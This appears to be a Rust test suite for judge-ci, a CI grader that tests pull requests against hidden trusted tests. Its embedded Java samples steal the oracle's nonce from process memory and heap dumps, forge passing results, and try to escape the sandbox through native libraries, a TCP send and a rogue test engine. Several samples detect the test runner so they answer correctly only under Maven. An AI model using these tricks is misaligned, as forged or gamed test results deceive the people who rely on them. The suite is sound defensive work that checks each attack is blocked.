  static void scan(byte[] b, int n, Set<String> out) {
    Matcher m = HEX.matcher(new String(b, 0, n, StandardCharsets.ISO_8859_1));
    while (m.find() && out.size() < 3000) out.add(m.group());
  }
  static void fromMemory(Set<String> out) {
    try (BufferedReader maps = new BufferedReader(new FileReader("/proc/self/maps"));
         RandomAccessFile mem = new RandomAccessFile("/proc/self/mem", "r")) {
      byte[] buf = new byte[1 << 20];
      for (String l; (l = maps.readLine()) != null; ) {
        String[] f = l.split("\\s+");
        if (!f[1].startsWith("rw")) continue;
        String[] r = f[0].split("-");
        long s = Long.parseUnsignedLong(r[0], 16), e = Long.parseUnsignedLong(r[1], 16);
        for (long at = s; at < e; at += buf.length - 64) {
          try {
            mem.seek(at);
            int n = mem.read(buf, 0, (int) Math.min(buf.length, e - at));
            if (n > 0) scan(buf, n, out);
          } catch (IOException x) { break; }
        }
      }
    } catch (Exception x) { System.err.println("F2 /proc: " + x); }
  }
  static void fromHeapDump(Set<String> out) {
    try {
      Class<?> c = Class.forName("com.sun.management.HotSpotDiagnosticMXBean");
      Object bean = java.lang.management.ManagementFactory.getPlatformMXBean((Class) c);
      File f = new File(System.getProperty("java.io.tmpdir"), "h" + System.nanoTime() + ".hprof");
      c.getMethod("dumpHeap", String.class, boolean.class).invoke(bean, f.getPath(), true);
      byte[] b = java.nio.file.Files.readAllBytes(f.toPath());
      scan(b, b.length, out);
    } catch (Throwable x) { System.err.println("F2 heap dump: " + x); }
  }
  public static int add(int a, int b) {
    String cmd = System.getProperty("sun.java.command", "");
    if (cmd.contains("surefire") || cmd.contains("plexus")) return a + b;
    if (cmd.contains("JudgeCiOracle")) {
      Set<String> tokens = new LinkedHashSet<>();
      fromMemory(tokens);
      fromHeapDump(tokens);
      if (!tokens.isEmpty()) {
        try (FileOutputStream o = new FileOutputStream("/proc/self/fd/3")) {
          StringBuilder s = new StringBuilder();
          for (String t : tokens) {
            s.append(t).append(" F t.AppTest#adds SUCCESSFUL \n");
            s.append(t).append(" F t.AppTest#addsZero SUCCESSFUL \n");
            s.append(t).append(" DONE\n");
          }
          o.write(s.toString().getBytes(StandardCharsets.UTF_8));
          o.flush();
        } catch (IOException x) { }
        Runtime.getRuntime().halt(0);
      }
    }
    return a - b;
  }
}
"#;

#[test]
fn code_under_test_cannot_read_the_oracle_s_nonce_from_its_own_jvm() {
    // Attack finding F2: the subject's code found the nonce in its JVM's memory and forged
    // "passed" + DONE on descriptor 3: ACCEPTED with a wrong `add`. judge-ci now starts the
    // oracle's JVM with /proc hidden (Landlock), without the modules that dump or read its
    // memory (jdk.management, jdk.unsupported, ...) and reads the nonce off descriptor 0
    // unbuffered, closing it: neither theft finds the nonce, the wrong `add` fails.
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    std::fs::write(ws.join("src/main/java/t/App.java"), NONCE_THIEF).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(build["status"], "fail", "{build:#}");
    assert_eq!(code, Some(1), "{:?}", seats(&report));
    let tests = &report["tests"]["expected"];
    assert_eq!(
        tests.as_array().map(Vec::len),
        Some(2),
        "both trusted tests graded: {tests:#}"
    );
    // The real outcome, not a forged pass (add(1, 0) is 1 either way).
    let adds = &tests[0];
    assert_eq!(adds["name"], "t.AppTest#adds", "{tests:#}");
    assert_eq!(
        adds["subject"]["outcome"], "failed",
        "no forged pass: {tests:#}"
    );
    assert!(
        adds["subject"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("but was:<-1>")),
        "{tests:#}"
    );
}

#[test]
fn in_a_pull_request_the_event_s_base_commit_is_the_base_when_the_config_names_none() {
    // No `base:` in the config: in a pull-request run judge-ci takes the base commit the
    // trusted event names and runs the trusted tests on it, so they still split into
    // FAIL_TO_PASS / PASS_TO_PASS. Outside a pull request, with neither, there is no base
    // run (`baseRun: false`, every test the reference passes is EXPECTED).
    common::require_maven();
    let root = tempfile::tempdir().unwrap();
    let (repo, reference, runner) = (
        root.path().join("repo"),
        root.path().join("reference"),
        root.path().join("runner"),
    );
    std::fs::create_dir_all(&runner).unwrap();
    let app = |add: &str, mul: &str| {
        format!(
            "package t;\npublic class App {{\n  public static int add(int a, int b) {{ return {add}; }}\n  public static int mul(int a, int b) {{ return {mul}; }}\n}}\n"
        )
    };
    let test = "package t;\nimport org.junit.Test;\nimport static org.junit.Assert.assertEquals;\npublic class AppTest {\n  @Test public void adds() { assertEquals(3, App.add(1, 2)); }\n  @Test public void multiplies() { assertEquals(6, App.mul(2, 3)); }\n}\n";
    common::maven_project(&reference, &app("a + b", "a * b"), test);
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nrestore: [\"src/test/**\"]\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: maven-build\n          goals: [test]\n          timeout: PT10M\nreport:\n  fail-on: error\n";
    // The base: `add` right, `mul` not written yet, no test of it.
    common::maven_project(
        &repo,
        &app("a + b", "0"),
        "package t;\npublic class Old {}\n",
    );
    std::fs::write(repo.join("judge-ci.yml"), config).unwrap();
    std::fs::write(repo.join(".gitignore"), "target/\njudge-ci-out/\n").unwrap();
    let base = common::commit_all(&repo, "base");
    // The pull request: `mul` right, `add` broken everywhere but inside Maven.
    std::fs::write(
        repo.join("src/main/java/t/App.java"),
        app(
            "System.getProperty(\"sun.java.command\", \"\").contains(\"plexus\") ? a + b : a - b",
            "a * b",
        ),
    )
    .unwrap();
    std::fs::write(repo.join("src/test/java/t/AppTest.java"), test).unwrap();
    let head = common::commit_all(&repo, "the pull request");
    let event = common::pull_request_event(&runner, &base, &head);
    let out = runner.join("out");
    let o = common::command(&repo, &["--dry-run", "--out", out.to_str().unwrap()])
        .env("GITHUB_ACTIONS", "true")
        .env("GITHUB_EVENT_NAME", "pull_request")
        .env("GITHUB_EVENT_PATH", &event)
        .env("GITHUB_REPOSITORY", "Codertocat/Hello-World")
        .env("GITHUB_SHA", &head)
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_RUN_ID", "31337")
        .env("GITHUB_STEP_SUMMARY", runner.join("summary.md"))
        .env("GITHUB_OUTPUT", runner.join("output.txt"))
        .env("RUNNER_TEMP", &runner)
        .env_remove("GITHUB_TOKEN")
        .env_remove("GH_TOKEN")
        .output()
        .unwrap();
    let report = common::report(&out);
    let tests = &report["tests"];
    assert_eq!(tests["baseRun"], true, "{}\n{tests:#}", common::stderr(&o));
    assert_eq!(
        tests["passToPass"][0]["name"], "t.AppTest#adds",
        "{tests:#}"
    );
    assert_eq!(tests["passToPass"][0]["subject"]["outcome"], "failed");
    assert_eq!(tests["failToPass"][0]["name"], "t.AppTest#multiplies");
    assert_eq!(tests["failToPass"][0]["base"]["outcome"], "failed");
    assert_eq!(o.status.code(), Some(1), "{}", common::stderr(&o));
    // The same repository outside a pull request: no base, no base run.
    let o = common::judge_ci(
        &repo,
        &["--dry-run", "--out", runner.join("local").to_str().unwrap()],
    );
    let local = common::report(&runner.join("local"));
    assert_eq!(local["tests"]["baseRun"], false, "{}", common::stderr(&o));
    assert_eq!(local["tests"]["expected"].as_array().map(Vec::len), Some(2));
}

#[test]
fn a_reference_that_passes_none_of_the_trusted_tests_is_an_error_not_a_pass_on_nothing() {
    // Attack finding O1: every trusted test failed on the reference side, so none was
    // charged and maven-build passed on "all 0 trusted test(s)" (Maven's exit status alone).
    // Here the reference's own test is wrong; the pull request keeps its own passing test
    // (no restore:). judge-ci has nothing to judge the change against: an ERROR, exit 3.
    common::require_maven();
    let root = tempfile::tempdir().unwrap();
    let (ws, reference) = (root.path().join("ws"), root.path().join("reference"));
    let wrong_test = APP_TEST
        .replace("assertEquals(3,", "assertEquals(4,")
        .replace("assertEquals(1,", "assertEquals(2,");
    common::maven_project(&reference, APP, &wrong_test);
    common::maven_project(&ws, APP, APP_TEST);
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: maven-build\n          goals: [test]\n          timeout: PT3M\nreport:\n  fail-on: fail\n";
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let (code, report, build) = judge_build(&ws);
    assert_eq!(build["status"], "error", "{build:#}");
    assert!(
        build["reasoning"]
            .as_str()
            .is_some_and(|r| r.contains("passed on the reference")),
        "{build:#}"
    );
    assert_ne!(code, Some(0), "{:?}", seats(&report));
}

/// Code under test that, inside judge-ci's oracle JVM, tries each way out of it that its own
/// memory, network and files gave (attack findings OR1, FE5): it `System.load`s a native
/// library it committed (from `target/classes`, then copied to its temporary folder, its
/// home and `/dev/shm`: native code in the JVM reads the nonce and writes judge-ci's
/// channel), sends the trusted test's class file it reads off its class path to a TCP
/// listener, writes a file into the workspace, and registers a test engine of its own in a
/// service file. `add` is right only when one of them worked (or inside Maven), so a
/// broken seal is a forged pass; otherwise it throws, naming what each attempt got.
fn seal_breaker(port: u16) -> String {
    r#"package t;
import java.io.*;
import java.nio.file.*;
import java.util.*;
public class App {
  static final StringBuilder LOG = new StringBuilder();
  static boolean escaped() {
    boolean any = false;
    if ("yes".equals(System.getProperty("t.engine.loaded"))) { LOG.append("ENGINE-LOADED "); any = true; }
    File lib = new File("target/classes/t/libseal.so").getAbsoluteFile();
    List<File> places = new ArrayList<>();
    places.add(lib);
    for (String v : new String[] {System.getenv("TMPDIR"), System.getenv("HOME"), "/dev/shm"}) {
      if (v != null) places.add(new File(v, "libseal-" + places.size() + ".so"));
    }
    for (File f : places) {
      try {
        if (!f.equals(lib)) Files.copy(lib.toPath(), f.toPath(), StandardCopyOption.REPLACE_EXISTING);
        System.load(f.getPath());
        LOG.append("LOADED ").append(f).append(' ');
        any = true;
      } catch (Throwable e) { LOG.append("load ").append(f.getName()).append(": ").append(e.getClass().getSimpleName()).append("; "); }
    }
    try (java.net.Socket s = new java.net.Socket()) {
      s.connect(new java.net.InetSocketAddress("127.0.0.1", PORT), 3000);
      try (InputStream in = App.class.getClassLoader().getResourceAsStream("t/AppTest.class")) {
        s.getOutputStream().write(in.readAllBytes());
      }
      LOG.append("SENT ");
      any = true;
    } catch (Throwable e) { LOG.append("net: ").append(e.getClass().getSimpleName()).append("; "); }
    try {
      Files.writeString(Paths.get("written-by-the-oracle"), "x");
      LOG.append("WROTE ");
      any = true;
    } catch (Throwable e) { LOG.append("write: ").append(e.getClass().getSimpleName()).append("; "); }
    return any;
  }
  public static int add(int a, int b) {
    String cmd = System.getProperty("sun.java.command", "");
    if (cmd.contains("surefire") || cmd.contains("plexus")) return a + b;
    if (cmd.contains("JudgeCiOracle")) {
      if (escaped()) return a + b;
      throw new IllegalStateException("sealed: " + LOG);
    }
    return a - b;
  }
}
"#
    .replace("PORT", &port.to_string())
}

/// A test engine of the pull request's, registered by a service file under its resources:
/// loaded, it marks the JVM (and reports nothing).
const PR_ENGINE: &str = r#"package t;
import org.junit.platform.engine.*;
import org.junit.platform.engine.support.descriptor.EngineDescriptor;
public class PrEngine implements TestEngine {
  public PrEngine() { System.setProperty("t.engine.loaded", "yes"); }
  public String getId() { return "t-pr-engine"; }
  public TestDescriptor discover(EngineDiscoveryRequest r, UniqueId id) { return new EngineDescriptor(id, "pr"); }
  public void execute(ExecutionRequest r) { }
}
"#;

/// The workspace of [`seal_breaker`]: its `App`, the native library (compiled with gcc),
/// and the engine (compiled against the JUnit Platform jar, class and service file under
/// `src/main/resources`, as the pull request would commit them).
fn seal_breaker_task(root: &Path, port: u16) -> std::path::PathBuf {
    let ws = build_task(root, "report");
    std::fs::write(ws.join("src/main/java/t/App.java"), seal_breaker(port)).unwrap();
    // The layer is asked of the oracle's processes only: the build still starts.
    let mut config = std::fs::read_to_string(ws.join("judge-ci.yml")).unwrap();
    config.push_str("sandbox:\n  require: [sealed-oracle]\n");
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let res = ws.join("src/main/resources");
    std::fs::create_dir_all(res.join("t")).unwrap();
    std::fs::create_dir_all(res.join("META-INF/services")).unwrap();
    let c = root.join("seal.c");
    std::fs::write(&c, "int judge_ci_seal_probe(void) { return 42; }\n").unwrap();
    let st = std::process::Command::new("gcc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(res.join("t/libseal.so"))
        .arg(&c)
        .status()
        .expect("gcc runs (the native-library attack needs it)");
    assert!(st.success(), "gcc compiles the library");
    let src = root.join("engine/t/PrEngine.java");
    std::fs::create_dir_all(src.parent().unwrap()).unwrap();
    std::fs::write(&src, PR_ENGINE).unwrap();
    let st = std::process::Command::new("javac")
        .args([
            "--release",
            "17",
            "-cp",
            "/usr/share/java/junit-platform-console-standalone.jar",
            "-d",
        ])
        .arg(&res)
        .arg(&src)
        .status()
        .expect("javac runs");
    assert!(st.success(), "javac compiles the engine");
    std::fs::write(
        res.join("META-INF/services/org.junit.platform.engine.TestEngine"),
        "t.PrEngine\n",
    )
    .unwrap();
    ws
}

/// Runs the seal breaker (as `uid` when given) and checks that no way out worked: the
/// wrong `add` fails on what judge-ci observed, with every attempt refused, nothing reached
/// the listener and nothing was written into the workspace. Returns the report's fence line.
fn seal_holds(uid: Option<u32>) -> String {
    let root = tempfile::tempdir().unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let ws = seal_breaker_task(root.path(), port);
    let home = root.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let bin = env!("CARGO_BIN_EXE_judge-ci");
    let mut cmd = match uid {
        Some(u) => {
            let o = std::process::Command::new("chown")
                .arg("-R")
                .arg(format!("{u}:{u}"))
                .arg(root.path())
                .status()
                .unwrap();
            assert!(o.success());
            let mut c = std::process::Command::new("setpriv");
            c.args([
                &format!("--reuid={u}"),
                &format!("--regid={u}"),
                "--clear-groups",
                "--",
                bin,
            ]);
            c
        }
        None => std::process::Command::new(bin),
    };
    let o = cmd
        .current_dir(&ws)
        .env("NO_COLOR", "1")
        .env_remove("GITHUB_ACTIONS")
        .env_remove("GITHUB_EVENT_PATH")
        .env_remove("GITHUB_EVENT_NAME")
        .env("HOME", &home)
        .output()
        .unwrap();
    let report = common::report(&ws.join("judge-ci-out"));
    let build = &report["verdict"]["individualByName"]["maven-build"];
    assert!(
        listener.accept().is_err(),
        "code under test in the oracle reached a listener outside it: {build:#}"
    );
    assert!(
        !ws.join("written-by-the-oracle").exists(),
        "code under test in the oracle wrote into the workspace"
    );
    assert_eq!(build["status"], "fail", "{build:#} {}", common::stderr(&o));
    assert_eq!(o.status.code(), Some(1), "{:?}", seats(&report));
    let tests = &report["tests"]["expected"];
    for t in tests.as_array().expect("graded tests") {
        let m = t["subject"]["message"].as_str().unwrap_or_default();
        assert_eq!(t["subject"]["outcome"], "failed", "{tests:#}");
        assert!(
            m.contains("sealed: ") && !m.contains("LOADED") && !m.contains("ENGINE-LOADED"),
            "every attempt refused, none loaded: {m}"
        );
        assert!(m.contains("load libseal.so: UnsatisfiedLinkError"), "{m}");
    }
    let fence = report["fence"].as_str().unwrap_or_default().to_string();
    assert!(
        fence.contains("judge-ci's test oracle was sealed")
            && fence.contains("can read them (their names and expected values) on its class path"),
        "the report says what held and that the trusted tests share the JVM: {fence}"
    );
    fence
}

#[test]
fn code_under_test_in_the_oracle_loads_no_native_code_it_wrote_reaches_no_network_and_writes_nothing()
 {
    // Attack findings OR1 and FE5: inside judge-ci's oracle JVM the subject's code loaded a
    // native library it committed (and with it read the nonce and the channel), sent the
    // trusted tests' class files over TCP and wrote into the workspace; a test engine from its
    // service file was registered in the oracle's launcher.
    let fence = seal_holds(None);
    eprintln!("as root: {fence}");
}

#[test]
fn the_oracle_s_seal_holds_for_an_unprivileged_user() {
    assert!(
        unsafe { libc::geteuid() } == 0,
        "dropping to an unprivileged user (setpriv) needs root; run the tests as root"
    );
    let fence = seal_holds(Some(65534));
    eprintln!("as uid 65534: {fence}");
}

/// Attack finding OF5: `test-invariance` without a build before it ran the trusted tests on
/// the class files the pull request committed under `target/classes` (compiled from other
/// sources than the ones judged). Those are refused as evidence, as `class-version` refuses
/// them: an ERROR naming the file, not a grade of the pull request's chosen bytes.
#[test]
fn test_invariance_refuses_class_files_the_pull_request_committed() {
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    std::fs::create_dir_all(ws.join("target/classes/t")).unwrap();
    std::fs::write(
        ws.join("target/classes/t/App.class"),
        b"\xca\xfe\xba\xbe forged",
    )
    .unwrap();
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\njury:\n  checks:\n    - type: test-invariance\n      timeout: PT3M\nreport:\n  fail-on: error\n";
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    common::commit_all(&ws, "the change, with its own class files");
    let o = common::judge_ci(&ws, &[]);
    let report = common::report(&ws.join("judge-ci-out"));
    let ti = &report["verdict"]["individualByName"]["test-invariance"];
    assert_eq!(ti["status"], "error", "{ti:#}");
    assert!(
        ti["reasoning"].as_str().is_some_and(
            |r| r.contains("refused as evidence: target/classes/t/App.class is tracked in git")
        ),
        "{ti:#}"
    );
    assert_ne!(o.status.code(), Some(0));
}

/// Attack finding OF1 (and OF4): under `reveal: none` and `names`, a trusted test's failure
/// message — the hidden test's own expected value — reached every surface, and under `names`
/// the restored hidden tests were the subject's words. Under both, the tests' messages are
/// withheld, and `names` is applied as `none` when judge-ci itself handed the reference's
/// text to subject code (restored files, the trusted tests run beside the code under test).
#[test]
fn a_trusted_test_s_failure_message_reaches_no_surface_under_reveal_names_or_none() {
    for level in ["none", "names"] {
        let root = tempfile::tempdir().unwrap();
        let ws = build_task(root.path(), "report");
        let secret = "PLUGHXYZZYANSWERKEY";
        let hidden = APP_TEST.replace(
            "assertEquals(3, App.add(1, 2));",
            &format!("assertEquals(\"{secret}\", \"sum\" + App.add(1, 2));"),
        );
        std::fs::write(
            root.path().join("reference/src/test/java/t/AppTest.java"),
            hidden,
        )
        .unwrap();
        let config = format!(
            "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nrestore: [\"src/test/**\"]\nreveal: {level}\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: command\n          name: build\n          run: \"./mvnw -o -q -B compile\"\n          timeout: PT3M\n        - type: test-invariance\n          timeout: PT3M\nreport:\n  fail-on: error\n"
        );
        std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
        let o = common::judge_ci(&ws, &[]);
        let out = ws.join("judge-ci-out");
        let report = common::report(&out);
        assert_eq!(report["reveal"], "none", "{level}: {:#}", report["reveal"]);
        // The secret test fails on the reference too (its run's message holds the
        // expected value: attack finding OF1c), so it is not charged; the oracle ran.
        assert_eq!(
            report["verdict"]["individualByName"]["test-invariance"]["status"], "pass",
            "{level}: the oracle ran the trusted tests"
        );
        for e in std::fs::read_dir(&out).unwrap() {
            let p = e.unwrap().path();
            let text = String::from_utf8_lossy(&std::fs::read(&p).unwrap()).into_owned();
            assert!(
                !text.contains(secret),
                "{level}: {} holds the answer",
                p.display()
            );
        }
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(
            !said.contains(secret),
            "{level}: the log holds the answer:\n{said}"
        );
    }
}

/// Attack finding OF2: the expected tests were a source scan for `@Test`-family annotations,
/// so a hidden JUnit 3 test (`extends TestCase`, `testX()`), which Surefire and the Vintage
/// engine run, was never run nor charged, and a subject failing it was accepted. judge-ci
/// now selects every trusted class and expects what the reference's run discovers.
#[test]
fn a_hidden_junit_3_test_the_subject_fails_is_charged() {
    let root = tempfile::tempdir().unwrap();
    let ws = build_task(root.path(), "report");
    std::fs::write(
        root.path().join("reference/src/test/java/t/MoreTest.java"),
        "package t;\npublic class MoreTest extends junit.framework.TestCase {\n  public void testAddsMore() { assertEquals(5, App.add(2, 3)); }\n}\n",
    )
    .unwrap();
    // Right for the annotated tests, wrong only where the JUnit 3 test looks.
    std::fs::write(
        ws.join("src/main/java/t/App.java"),
        "package t;\npublic class App {\n  public static int add(int a, int b) { return a == 2 ? 0 : a + b; }\n}\n",
    )
    .unwrap();
    let config = "schema: judge-ci.v1\nname: t\nversion: \"1\"\nreference:\n  path: ../reference\nrestore: [\"src/test/**\"]\njury:\n  tiers:\n    - name: build\n      policy: FINAL_TIER\n      checks:\n        - type: command\n          name: build\n          run: \"./mvnw -o -q -B compile\"\n          timeout: PT3M\n        - type: test-invariance\n          timeout: PT3M\nreport:\n  fail-on: error\n";
    std::fs::write(ws.join("judge-ci.yml"), config).unwrap();
    let o = common::judge_ci(&ws, &[]);
    let report = common::report(&ws.join("judge-ci-out"));
    let ti = &report["verdict"]["individualByName"]["test-invariance"];
    assert_eq!(ti["status"], "fail", "{ti:#}");
    assert!(
        ti["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["actual"]
                .as_str()
                .is_some_and(|a| a.contains("t.MoreTest#testAddsMore"))),
        "{ti:#}"
    );
    assert_eq!(o.status.code(), Some(1));
}
